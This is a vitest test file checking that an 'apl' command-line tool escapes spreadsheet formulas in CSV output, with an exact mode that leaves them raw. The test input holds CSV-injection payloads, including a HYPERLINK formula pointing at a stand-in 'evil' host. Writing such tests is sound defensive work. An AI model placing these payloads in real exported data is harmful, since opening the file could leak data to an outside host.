/**
 * CSV injection (OWASP): `apl run` / `apl query --format csv` (the BUILT bin, real processes) write
 * text that a spreadsheet would run as a formula with a leading `'`, numbers as they are, and the
 * data exactly with --csv-exact.
 */
import { describe, expect, it } from 'vitest';
import { runApl } from '../support/cli.js';

const QUERY = `print ['=cmd'] = '=HYPERLINK("http://evil/?x")', at = '@SUM(A1)', minus = '-2+3', n = -5, s = '-5'`;

describe('apl run --format csv and formulas', () => {
    it(QUERY, () => {
        const r = runApl(['run', '--format', 'csv', QUERY]);
        expect(r.code, r.stderr).toBe(0);
        expect(r.stdout).toBe(`'=cmd,at,minus,n,s\n"'=HYPERLINK(""http://evil/?x"")",'@SUM(A1),'-2+3,-5,-5\n`);
    });

    it(`${QUERY} (--csv-exact)`, () => {
        const r = runApl(['run', '--format', 'csv', '--csv-exact', QUERY]);
        expect(r.code, r.stderr).toBe(0);
        expect(r.stdout).toBe(`=cmd,at,minus,n,s\n"=HYPERLINK(""http://evil/?x"")",@SUM(A1),-2+3,-5,-5\n`);
    });

    it('--csv-exact goes with --format csv only', () => {
        const r = runApl(['run', '--format', 'json', '--csv-exact', 'print x = 1']);
        expect(r.code).toBe(2);
        expect(r.stderr).toMatch(/--csv-exact/);
    });
});
